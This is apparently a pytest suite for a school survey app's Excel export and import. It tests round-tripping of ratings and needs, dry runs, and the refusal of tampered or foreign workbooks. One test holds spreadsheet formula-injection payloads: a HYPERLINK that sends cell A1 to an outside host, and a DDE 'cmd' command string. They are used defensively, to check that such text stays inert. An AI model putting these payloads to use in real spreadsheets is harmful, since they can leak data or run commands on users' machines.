"""The survey as a workbook and back: what staff type in the yellow cells comes back as the app holds it; sheets
nobody touched are skipped; a dry run changes nothing; a wrong cell is named by its sheet and cell and a wrong file
as a whole is refused, and either way nothing at all is imported."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from development_support import TODAY, YEAR, SurveySchool, survey_school, table_rows
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from kaplc_desktop.context import AppContext
from kaplc_desktop.domain.field_types import tidy_paragraphs, tidy_text
from kaplc_desktop.errors import ImportFileError, ValidationError
from kaplc_desktop.i18n import _
from kaplc_desktop.services import survey_exchange
from kaplc_desktop.services.survey import NeedInput
from kaplc_desktop.services.survey_exchange import SurveyImportReport, export_survey, import_survey

CODE = "1090050001"  # conftest.SCHOOL
ABOUT = "ข้อมูลไฟล์"
SURVEY_TABLES = ("survey_rounds", "survey_forms", "survey_ratings", "survey_needs")


class Sheet:
    """A person's sheet, its rows found by the hidden key column H as the reader finds them."""

    def __init__(self, ws: Any) -> None:
        self.ws = ws
        marks = {ws.cell(row=r, column=8).value: r for r in range(1, ws.max_row + 1)}
        self.rating = {}  # competency code → row
        for r in range(marks["ratings"] + 1, marks["needs"]):
            code = ws.cell(row=r, column=8).value
            if code:
                self.rating[code] = r
        self.needs = [r for r in range(marks["needs"] + 1, marks["self_rated_on"]) if ws.cell(r, 8).value == "need"]
        self.date = marks["self_rated_on"]
        self.strengths = marks["strengths"]

    def rate(self, own: object, director: object = None) -> None:
        for row in self.rating.values():
            self.ws.cell(row=row, column=4).value = own
            self.ws.cell(row=row, column=5).value = director

    def need(self, n: int, topic: object, competency: object = None, priority: object = None, way: object = None):  # type: ignore[no-untyped-def]
        for col, value in zip((2, 3, 4, 5), (topic, competency, priority, way), strict=True):
            self.ws.cell(row=self.needs[n], column=col).value = value


@pytest.fixture
def school(school_ctx: AppContext) -> SurveySchool:
    s = survey_school(school_ctx)
    s.rate(s.people[0], 3, 3, [NeedInput("การสอนอ่าน", priority=4)], self_rated_on="15/07/2569", strengths="ตรงเวลา")
    return s


def _export(school: SurveySchool, path: Path, topics: tuple[str, ...] = ()) -> Path:
    assert export_survey(school.ctx.survey, (CODE, "โรงเรียนบ้านทดสอบ"), path, YEAR, topics) == len(school.people)
    return path


@pytest.fixture
def exported(school: SurveySchool, tmp_path: Path) -> Path:
    return _export(school, tmp_path / "survey.xlsx")


def _edit(source: Path, edit: Callable[[Any], object], name: str = "filled.xlsx") -> Path:
    wb = load_workbook(source)
    edit(wb)
    target = source.with_name(name)
    wb.save(target)
    return target


def _import(school: SurveySchool, path: Path, dry_run: bool = False) -> SurveyImportReport:
    return import_survey(school.ctx.survey, CODE, path, dry_run=dry_run, today=TODAY)


def _state(ctx: AppContext) -> list[Any]:
    return [table_rows(ctx.data_dir, t, where="1 = 1") for t in SURVEY_TABLES]


def _title(school: SurveySchool, n: int) -> str:
    return school.people[n].full_name_th  # a sheet is named by the person's name


def test_what_is_typed_in_the_workbook_comes_back_as_the_app_holds_it(school: SurveySchool, exported: Path) -> None:
    second = school.people[1]

    def fill(wb: Any) -> None:
        sheet = Sheet(wb[_title(school, 1)])
        sheet.rate("4 – ดีเลิศ")  # from the drop-down
        sheet.ws.cell(row=sheet.rating["ethics"], column=4).value = "๕"  # a Thai digit typed
        sheet.ws.cell(row=sheet.rating["service"], column=5).value = "1"  # beside the form: not read
        sheet.need(0, "การจัดการเรียนรู้เชิงรุก", "การบริหารหลักสูตรและการจัดการเรียนรู้", "5 – มากที่สุด", "ศึกษาดูงาน")
        sheet.need(1, "  Coding   สำหรับ ป.4 ")  # competency, priority and way left empty
        sheet.ws.cell(row=sheet.date, column=2).value = "20/07/2569"
        sheet.ws.cell(row=sheet.strengths, column=2).value = "สอนคณิตศาสตร์ได้ดี\n\nดูแลนักเรียนใกล้ชิด "

    report = _import(school, _edit(exported, fill))
    assert report.problems == [] and report.imported
    assert (report.sheets, report.changed, report.unchanged) == (3, [second.full_name_th], 2)
    sheet = school.sheet(second)
    assert {(r.competency, r.self_level, r.director_level) for r in sheet.ratings} == {
        (r.competency, 5 if r.competency == "ethics" else 4, None) for r in sheet.ratings
    }  # the director rates in the app: the workbook has no column for it
    assert [(n.topic, n.competency, n.priority, n.method) for n in sheet.needs] == [
        ("การจัดการเรียนรู้เชิงรุก", "curriculum_learning", 5, "study_visit"),
        ("Coding สำหรับ ป.4", None, 3, "training"),
    ]
    assert sheet.form.self_rated_on == dt.date(2026, 7, 20)
    assert sheet.form.strengths == "สอนคณิตศาสตร์ได้ดี\n\nดูแลนักเรียนใกล้ชิด"
    assert sheet.status == "in_progress"  # the director has not rated yet
    # the form saved before the export is as it was
    first = school.sheet(school.people[0])
    assert {(r.self_level, r.director_level) for r in first.ratings} == {(3, 3)}
    assert [n.topic for n in first.needs] == ["การสอนอ่าน"]
    # the same file again: every sheet is now what the app holds
    again = _import(school, exported.with_name("filled.xlsx"))
    assert (again.changed, again.unchanged, again.imported, again.problems) == ([], 3, False, [])


def test_the_workbook_says_whose_it_is_and_shows_each_persons_form(school: SurveySchool, exported: Path) -> None:
    wb = load_workbook(exported)
    titles = [_title(school, n) for n in range(3)]
    assert wb.sheetnames[0] == ABOUT and sorted(wb.sheetnames[2:]) == sorted(titles)
    assert wb.worksheets[1].sheet_state == "hidden"  # the drop-down lists
    about = {wb[ABOUT].cell(row=r, column=3).value: wb[ABOUT].cell(row=r, column=2).value for r in range(1, 20)}
    assert (about["school_code"], about["academic_year"], about["round_id"]) == (CODE, str(YEAR), school.round.id)
    ws = wb[titles[0]]
    sheet = Sheet(ws)
    assert ws.protection.sheet and ws.column_dimensions["H"].hidden and ws.column_dimensions["I"].hidden
    assert ws["B2"].value == titles[0] and ws["I2"].value == school.people[0].id
    assert list(sheet.rating) == [r.competency for r in school.sheet(school.people[0]).ratings]
    row = sheet.rating["achievement"]
    assert [ws.cell(row=row, column=c).value for c in (2, 3, 4, 5)] == [
        "การมุ่งผลสัมฤทธิ์ในการปฏิบัติงาน",
        "4 – ดีเลิศ",  # ชำนาญการพิเศษ: expected 4
        "3 – ดี",
        None,  # the director's rating stays in the app: a colleague reading the file never sees it
    ]
    assert ws.cell(row=row, column=3).protection.locked and not ws.cell(row=row, column=4).protection.locked
    assert [ws.cell(row=sheet.needs[0], column=c).value for c in (2, 4, 5)] == ["การสอนอ่าน", "4 – มาก", "การฝึกอบรม"]
    assert len(sheet.needs) == 5  # the one named and empty lines to add needs in
    assert ws.cell(row=sheet.date, column=2).value == "15/07/2569"
    assert ws.cell(row=sheet.strengths, column=2).value == "ตรงเวลา"
    clerk = Sheet(wb[titles[2]])
    assert list(clerk.rating) == ["achievement", "service", "expertise", "integrity", "teamwork"]


def test_sheets_nobody_touched_are_skipped_even_when_the_app_changed_since(
    school: SurveySchool, exported: Path
) -> None:
    ctx = school.ctx
    school.rate(school.people[0], 5, 5, strengths="แก้ในโปรแกรม")  # changed in the app after the export
    before = _state(ctx)
    report = _import(school, exported)
    assert (report.sheets, report.changed, report.unchanged, report.problems) == (3, [], 3, [])
    assert not report.imported
    assert _state(ctx) == before
    assert school.sheet(school.people[0]).form.strengths == "แก้ในโปรแกรม"


def test_a_dry_run_reports_the_changes_and_changes_nothing(school: SurveySchool, exported: Path) -> None:
    filled = _edit(exported, lambda wb: Sheet(wb[_title(school, 2)]).rate("2", "2"))
    before = _state(school.ctx)
    report = _import(school, filled, dry_run=True)
    assert report.changed == [school.people[2].full_name_th] and report.problems == [] and not report.imported
    assert _state(school.ctx) == before
    assert _import(school, filled).imported
    assert {r.self_level for r in school.sheet(school.people[2]).ratings} == {2}


def _rating(school: SurveySchool, n: int, code: str, col: int, value: object) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        sheet = Sheet(wb[_title(school, n)])
        sheet.ws.cell(row=sheet.rating[code], column=col).value = value

    return edit


def _also_fill_another(school: SurveySchool) -> Callable[[Any], None]:
    """A good change on another sheet: it must not be imported either."""
    return lambda wb: Sheet(wb[_title(school, 2)]).rate("4", "4")


CELL_PROBLEMS: dict[str, tuple[Callable[[SurveySchool], Callable[[Any], None]], str, str]] = {
    # name: (edit of the second person's sheet, the cell named, words of the message)
    "rating 9": (lambda s: _rating(s, 1, "service", 4, "9"), "D{service}", "1"),
    "rating as text": (lambda s: _rating(s, 1, "service", 4, "ดีมาก"), "D{service}", "5"),
    "unknown way": (
        lambda s: lambda wb: Sheet(wb[_title(s, 1)]).need(0, "การสอนอ่าน", None, None, "ไปเที่ยว"),
        "E{need0}",
        "ไปเที่ยว",
    ),
    "priority without a topic": (lambda s: lambda wb: Sheet(wb[_title(s, 1)]).need(0, None, None, "5"), "B{need0}", ""),
    "impossible date": (lambda s: _date(s, "31/02/2569"), "B{date}", "31/02/2569"),
    "date in the future": (lambda s: _date(s, "01/01/2580"), "B{date}", ""),
    "topic too long": (lambda s: lambda wb: Sheet(wb[_title(s, 1)]).need(0, "ก" * 301), "B{need0}", "300"),
    "unknown competency key": (lambda s: _key(s, "service", "flying"), "H{service}", ""),
    "another set's competency key": (lambda s: _key(s, "service", "visioning"), "H{service}", "visioning"),
}


def _date(school: SurveySchool, typed: str) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        sheet = Sheet(wb[_title(school, 1)])
        sheet.ws.cell(row=sheet.date, column=2).value = typed

    return edit


def _key(school: SurveySchool, code: str, new: object) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        sheet = Sheet(wb[_title(school, 1)])
        sheet.ws.cell(row=sheet.rating[code], column=8).value = new
        sheet.ws.cell(row=sheet.rating["achievement"], column=4).value = "3"  # and an answer, so it is read

    return edit


@pytest.mark.parametrize("case", list(CELL_PROBLEMS))
def test_a_wrong_cell_is_named_by_sheet_and_cell_and_nothing_is_imported(
    school: SurveySchool, exported: Path, case: str
) -> None:
    make, cell, words = CELL_PROBLEMS[case]
    layout = Sheet(load_workbook(exported)[_title(school, 1)])
    where = cell.format(service=layout.rating["service"], need0=layout.needs[0], date=layout.date)
    filled = _edit(exported, lambda wb: (make(school)(wb), _also_fill_another(school)(wb)))
    before = _state(school.ctx)
    for dry_run in (True, False):
        report = _import(school, filled, dry_run=dry_run)
        assert not report.imported
        named = [p for p in report.problems if f"“{_title(school, 1)}”" in p and f"{where}:" in p]
        assert named, report.problems
        assert words in named[0]
        assert all(f"“{_title(school, 2)}”" not in p for p in report.problems)  # the good sheet is not blamed
    assert _state(school.ctx) == before


@pytest.mark.parametrize(
    "edit",
    [
        lambda sheet: setattr(sheet.ws.cell(row=sheet.rating["service"], column=8), "value", None),  # a key cleared
        lambda sheet: sheet.ws.delete_rows(sheet.rating["service"], 2),  # two competency rows deleted
    ],
    ids=["key removed", "rows deleted"],
)
def test_a_sheet_whose_lines_were_removed_is_refused(
    school: SurveySchool, exported: Path, edit: Callable[[Sheet], object]
) -> None:
    def tamper(wb: Any) -> None:
        sheet = Sheet(wb[_title(school, 1)])
        edit(sheet)
        sheet.rate("4")
        _also_fill_another(school)(wb)

    before = _state(school.ctx)
    report = _import(school, _edit(exported, tamper))
    assert not report.imported
    removed = _("Sheet “{sheet}”: competency lines were removed; export the survey again.")
    assert report.problems == [removed.format(sheet=_title(school, 1))]
    assert _state(school.ctx) == before


def test_a_sheet_of_someone_not_in_the_survey_or_twice_is_refused(school: SurveySchool, exported: Path) -> None:
    def tamper(wb: Any) -> None:
        sheet = Sheet(wb[_title(school, 1)])
        sheet.ws["I2"] = "00000000-0000-4000-8000-000000000000"
        sheet.rate("4")
        copy = wb.copy_worksheet(wb[_title(school, 2)])
        copy.title = "สำเนา"
        Sheet(copy).rate("2")

    before = _state(school.ctx)
    report = _import(school, _edit(exported, tamper))
    assert not report.imported and len(report.problems) == 2
    assert any(f"“{_title(school, 1)}”" in p for p in report.problems)
    assert any("“สำเนา”" in p and f"“{_title(school, 2)}”" in p for p in report.problems)
    assert _state(school.ctx) == before


def _about(cell: str, value: str) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        about = wb[ABOUT]
        row = next(r for r in range(1, 20) if about.cell(row=r, column=3).value == cell)
        about.cell(row=row, column=2).value = value
        Sheet(wb[_title_of(wb)]).rate("4")

    return edit


def _title_of(wb: Any) -> str:
    return wb.sheetnames[2]


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (_about("school_code", "1090050002"), "1090050002"),
        (_about("academic_year", "2568"), "2568"),
        (_about("format", "kaplc-survey-9"), "kaplc-survey-9"),
        (_about("exported_at", "เมื่อวาน"), ""),
    ],
    ids=["another school", "another year", "another format", "export time changed"],
)
def test_a_workbook_of_another_school_or_year_is_refused_whole(
    school: SurveySchool, exported: Path, edit: Callable[[Any], None], words: str
) -> None:
    before = _state(school.ctx)
    with pytest.raises(ImportFileError) as caught:
        _import(school, _edit(exported, edit))
    assert words in caught.value.message
    assert _state(school.ctx) == before


def test_a_workbook_of_a_closed_round_is_refused_until_it_is_reopened(school: SurveySchool, exported: Path) -> None:
    filled = _edit(exported, lambda wb: Sheet(wb[_title(school, 1)]).rate("4", "4"))
    school.ctx.survey.close_round(school.round.id, TODAY)
    before = _state(school.ctx)
    with pytest.raises(ImportFileError) as caught:
        _import(school, filled, dry_run=True)
    assert "27/11/2569" in caught.value.message
    assert _state(school.ctx) == before
    school.ctx.survey.reopen_round(school.round.id)
    assert _import(school, filled).imported


def test_a_form_changed_in_the_app_after_the_export_is_not_overwritten(
    school: SurveySchool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kaplc_desktop.data.types import utcnow

    # the file was exported a minute ago; a form was saved in the app since
    monkeypatch.setattr(survey_exchange, "_now", lambda: utcnow() - dt.timedelta(minutes=1))
    exported = _export(school, tmp_path / "survey.xlsx")
    school.rate(school.people[0], 5, 5)

    def fill(wb: Any) -> None:
        Sheet(wb[_title(school, 0)]).rate("1", "1")
        _also_fill_another(school)(wb)

    before = _state(school.ctx)
    report = _import(school, _edit(exported, fill))
    assert not report.imported
    (problem,) = report.problems
    assert f"“{_title(school, 0)}”" in problem and school.people[0].full_name_th in problem
    assert _state(school.ctx) == before
    assert {(r.self_level, r.director_level) for r in school.sheet(school.people[0]).ratings} == {(5, 5)}


@pytest.mark.parametrize(
    ("content", "words"),
    [(b"name,rating\n", ".xlsx"), (b"", ".xlsx"), (b"PK\x03\x04broken", "")],
    ids=["csv renamed", "empty", "broken zip"],
)
def test_a_file_that_is_not_a_workbook_is_refused(
    school: SurveySchool, tmp_path: Path, content: bytes, words: str
) -> None:
    path = tmp_path / "survey.xlsx"
    path.write_bytes(content)
    before = _state(school.ctx)
    with pytest.raises(ImportFileError) as caught:
        _import(school, path)
    assert words in caught.value.message
    with pytest.raises(ImportFileError):
        _import(school, tmp_path / "not-there.xlsx")
    other = tmp_path / "roster.xlsx"
    Workbook().save(other)
    with pytest.raises(ImportFileError, match=ABOUT):  # a workbook, but not a survey workbook
        _import(school, other)
    assert _state(school.ctx) == before


def test_a_file_that_is_not_a_workbook_is_told_about_the_survey_not_the_roster(
    school: SurveySchool, tmp_path: Path
) -> None:
    path = tmp_path / "survey.xlsx"
    path.write_bytes(b"name,rating\n")
    with pytest.raises(ImportFileError) as caught:
        _import(school, path)
    assert "แม่แบบรายชื่อบุคลากร" not in caught.value.message and "roster" not in caught.value.message


HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"คลิก")'


def test_text_that_looks_like_a_formula_stays_text(school: SurveySchool, tmp_path: Path) -> None:
    person = school.people[1]
    school.rate(person, 3, needs=[NeedInput(HYPERLINK)], strengths="=1+1")
    exported = _export(school, tmp_path / "survey.xlsx", topics=("=cmd|' /C calc'!A0",))
    ws = load_workbook(exported)[_title(school, 1)]
    sheet = Sheet(ws)
    topic, strengths = ws.cell(row=sheet.needs[0], column=2), ws.cell(row=sheet.strengths, column=2)
    assert (topic.data_type, topic.value) == ("s", HYPERLINK)
    assert (strengths.data_type, strengths.value) == ("s", "=1+1")
    lists = load_workbook(exported).worksheets[1]
    assert all(c.data_type == "s" for row in lists.iter_rows() for c in row if c.value is not None)
    # typed in Excel as a formula in the workbook, it comes back as the text typed
    filled = _edit(exported, lambda wb: Sheet(wb[_title(school, 2)]).need(0, '=HYPERLINK("http://evil.example")'))
    assert _import(school, filled).imported
    assert [n.topic for n in school.sheet(school.people[2]).needs] == ['=HYPERLINK("http://evil.example")']
    assert _import(school, _export(school, tmp_path / "again.xlsx")).changed == []  # and round-trips as text


def test_a_noncharacter_a_workbook_cannot_hold_is_refused_when_typed(school: SurveySchool, tmp_path: Path) -> None:
    """U+FFFF is not XML: held, it would make every later export unreadable, so it is refused like a control
    character, and the export of what is held reads back."""
    with pytest.raises(ValidationError, match=_("need {n}").format(n=1)):
        school.rate(school.people[1], 3, needs=[NeedInput("การสอน\uffffอ่าน")])
    assert school.sheet(school.people[1]).form is None
    report = _import(school, _export(school, tmp_path / "survey.xlsx"))
    assert report.problems == [] and report.changed == []


# what a person can type in a cell (openpyxl refuses the rest, Excel too; U+FFFE/U+FFFF are not XML)
TYPED = st.text(
    st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters="".join(chr(c) for c in range(32) if ILLEGAL_CHARACTERS_RE.match(chr(c))) + "\ufffe\uffff",
    ),
    max_size=320,
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(topic=TYPED, strengths=TYPED)
def test_any_text_typed_in_the_topic_and_strengths_imports_clean_or_is_listed(
    school_ctx: AppContext, tmp_path: Path, topic: str, strengths: str
) -> None:
    school = _hypothesis_school(school_ctx)
    exported = _export(school, tmp_path / "any.xlsx")
    title = _title(school, 1)

    def fill(wb: Any) -> None:
        sheet = Sheet(wb[title])
        sheet.need(0, topic)
        sheet.ws.cell(row=sheet.strengths, column=2).value = strengths

    report = _import(school, _edit(exported, fill, "any-filled.xlsx"))
    if report.problems:
        assert not report.imported
        assert all(title in p for p in report.problems), report.problems
        return
    sheet = school.sheet(school.people[1])
    expected_topic = tidy_text(topic)
    if sheet.form is None:  # nothing changed on the sheet
        assert not expected_topic and not tidy_paragraphs(strengths)
        return
    assert [n.topic for n in sheet.needs] == ([expected_topic] if expected_topic else [])
    assert sheet.form.strengths == (tidy_paragraphs(strengths) or None)


_SCHOOLS: list[SurveySchool] = []


def _hypothesis_school(ctx: AppContext) -> SurveySchool:
    """One school for all the examples of a run (hypothesis makes the fixture once for the whole test)."""
    if not _SCHOOLS or _SCHOOLS[0].ctx is not ctx:
        _SCHOOLS[:] = [survey_school(ctx)]
    return _SCHOOLS[0]
